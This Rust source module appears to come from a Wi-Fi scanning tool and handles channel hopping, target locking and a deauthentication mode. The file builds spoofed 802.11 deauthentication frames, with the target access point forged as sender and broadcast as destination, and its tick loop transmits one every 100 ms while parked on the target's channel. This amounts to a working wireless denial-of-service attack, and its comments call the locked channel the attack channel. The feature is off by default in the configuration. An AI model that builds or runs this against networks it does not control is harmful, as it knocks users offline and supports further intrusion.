//! Channel hopping, target lock and deauthentication policy.
//!
//! The controller never touches the radio. [`ScanController::tick`] and the
//! transition methods hand back [`ScanAction`]s which the session applies on
//! its own thread, so the receive channel is only ever changed from one
//! place and cannot race frame processing.

use std::time::{Duration, Instant};

use crate::error::{Error, Result};
use crate::parser::MacAddr;

/// Most populated 2.4 GHz channels first.
pub const CHANNEL_HOP_ORDER: [u8; 13] = [1, 6, 11, 2, 3, 4, 5, 7, 8, 9, 10, 12, 13];

/// Reason 7: class 3 frame received from nonassociated station.
pub const REASON_CLASS3_FROM_NONASSOC: u16 = 7;

pub const DEAUTH_FRAME_LEN: usize = 26;

/// Frame control for a management frame, subtype 12 (deauthentication).
const FC_DEAUTH: [u8; 2] = [0xC0, 0x00];

pub fn is_valid_channel(ch: u8) -> bool {
    (1..=14).contains(&ch)
}

#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum ScanMode {
    /// Listening on a fixed channel.
    Idle,
    Hopping,
    /// Parked on the target's channel.
    Locked { target: MacAddr },
    /// Parked on the target's channel and sending deauth frames.
    Deauthing { target: MacAddr },
}

/// Side effect the session must perform on the radio.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum ScanAction {
    SetChannel(u8),
    TransmitDeauth([u8; DEAUTH_FRAME_LEN]),
}

#[derive(Debug, Clone)]
pub struct ControllerConfig {
    pub hop_interval: Duration,
    pub deauth_enabled: bool,
    pub deauth_interval: Duration,
    pub deauth_reason: u16,
    /// Address 1 of emitted deauth frames.
    pub deauth_destination: MacAddr,
}

impl Default for ControllerConfig {
    fn default() -> Self {
        Self {
            hop_interval: Duration::from_millis(500),
            deauth_enabled: false,
            deauth_interval: Duration::from_millis(100),
            deauth_reason: REASON_CLASS3_FROM_NONASSOC,
            deauth_destination: MacAddr::BROADCAST,
        }
    }
}

/// 26-byte deauthentication frame: FC, duration 0, destination, source and
/// BSSID (both the AP), sequence 0, little-endian reason code.
pub fn build_deauth_frame(
    destination: MacAddr,
    bssid: MacAddr,
    reason: u16,
) -> [u8; DEAUTH_FRAME_LEN] {
    let mut frame = [0u8; DEAUTH_FRAME_LEN];
    frame[0..2].copy_from_slice(&FC_DEAUTH);
    frame[4..10].copy_from_slice(destination.as_bytes());
    frame[10..16].copy_from_slice(bssid.as_bytes());
    frame[16..22].copy_from_slice(bssid.as_bytes());
    frame[24..26].copy_from_slice(&reason.to_le_bytes());
    frame
}

pub struct ScanController {
    cfg: ControllerConfig,
    mode: ScanMode,
    channel: u8,
    hop_index: usize,
    last_hop: Option<Instant>,
    last_deauth: Option<Instant>,
}

impl ScanController {
    pub fn new(cfg: ControllerConfig, start_channel: u8) -> Self {
        let channel = if is_valid_channel(start_channel) { start_channel } else { 1 };
        Self {
            cfg,
            mode: ScanMode::Idle,
            channel,
            hop_index: hop_index_of(channel),
            last_hop: None,
            last_deauth: None,
        }
    }

    pub fn mode(&self) -> ScanMode {
        self.mode
    }

    pub fn channel(&self) -> u8 {
        self.channel
    }

    pub fn is_hopping(&self) -> bool {
        self.mode == ScanMode::Hopping
    }

    pub fn is_deauthing(&self) -> bool {
        matches!(self.mode, ScanMode::Deauthing { .. })
    }

    pub fn deauth_enabled(&self) -> bool {
        self.cfg.deauth_enabled
    }

    pub fn target(&self) -> Option<MacAddr> {
        match self.mode {
            ScanMode::Locked { target } | ScanMode::Deauthing { target } => Some(target),
            _ => None,
        }
    }

    /// Idle → Hopping. Tunes to the current channel first.
    pub fn start(&mut self, now: Instant) -> ScanAction {
        self.mode = ScanMode::Hopping;
        self.last_hop = Some(now);
        self.last_deauth = None;
        ScanAction::SetChannel(self.channel)
    }

    pub fn stop(&mut self) {
        self.mode = ScanMode::Idle;
        self.last_hop = None;
        self.last_deauth = None;
    }

    /// Toggle hopping while no target is locked. Returns whether the mode
    /// changed.
    pub fn enable_hop(&mut self, enabled: bool, now: Instant) -> bool {
        match (self.mode, enabled) {
            (ScanMode::Idle, true) => {
                self.mode = ScanMode::Hopping;
                self.last_hop = Some(now);
                true
            }
            (ScanMode::Hopping, false) => {
                self.mode = ScanMode::Idle;
                true
            }
            _ => false,
        }
    }

    /// Lock onto `target`. Jumps to its channel when that channel is known
    /// and differs from the current one. Any running deauth stops.
    pub fn lock_on(&mut self, target: MacAddr, channel: u8) -> Option<ScanAction> {
        self.mode = ScanMode::Locked { target };
        self.last_deauth = None;
        if is_valid_channel(channel) && channel != self.channel {
            self.tune(channel);
            Some(ScanAction::SetChannel(channel))
        } else {
            None
        }
    }

    /// Locked/Deauthing → Hopping.
    pub fn release(&mut self, now: Instant) {
        if self.target().is_some() {
            self.mode = ScanMode::Hopping;
            self.last_hop = Some(now);
            self.last_deauth = None;
        }
    }

    /// Locked → Deauthing. No-op without a locked target or when deauth is
    /// disabled in config.
    pub fn start_deauth(&mut self) -> bool {
        match self.mode {
            ScanMode::Locked { target } if self.cfg.deauth_enabled => {
                self.mode = ScanMode::Deauthing { target };
                self.last_deauth = None;
                true
            }
            _ => false,
        }
    }

    /// Deauthing → Hopping.
    pub fn stop_deauth(&mut self, now: Instant) -> bool {
        if self.is_deauthing() {
            self.release(now);
            true
        } else {
            false
        }
    }

    /// Manual tune. Refused while deauthing so the attack channel stays put.
    pub fn set_channel(&mut self, channel: u8) -> Result<ScanAction> {
        if !is_valid_channel(channel) {
            return Err(Error::InvalidChannel(channel));
        }
        if self.is_deauthing() {
            return Err(Error::ChannelLocked);
        }
        self.tune(channel);
        Ok(ScanAction::SetChannel(channel))
    }

    /// Periodic step: hop when the interval has passed, or emit the next
    /// deauth frame when the deauth interval has passed.
    pub fn tick(&mut self, now: Instant) -> Option<ScanAction> {
        match self.mode {
            ScanMode::Hopping => {
                if !elapsed(self.last_hop, now, self.cfg.hop_interval) {
                    return None;
                }
                self.hop_index = (self.hop_index + 1) % CHANNEL_HOP_ORDER.len();
                self.channel = CHANNEL_HOP_ORDER[self.hop_index];
                self.last_hop = Some(now);
                Some(ScanAction::SetChannel(self.channel))
            }
            ScanMode::Deauthing { target } => {
                if !elapsed(self.last_deauth, now, self.cfg.deauth_interval) {
                    return None;
                }
                self.last_deauth = Some(now);
                Some(ScanAction::TransmitDeauth(build_deauth_frame(
                    self.cfg.deauth_destination,
                    target,
                    self.cfg.deauth_reason,
                )))
            }
            ScanMode::Idle | ScanMode::Locked { .. } => None,
        }
    }

    fn tune(&mut self, channel: u8) {
        self.channel = channel;
        self.hop_index = hop_index_of(channel);
    }
}

/// `true` when more than `interval` has passed since `since`, or when
/// nothing has happened yet.
fn elapsed(since: Option<Instant>, now: Instant, interval: Duration) -> bool {
    since.map_or(true, |t| now.saturating_duration_since(t) > interval)
}

fn hop_index_of(channel: u8) -> usize {
    CHANNEL_HOP_ORDER
        .iter()
        .position(|&c| c == channel)
        .unwrap_or(0)
}
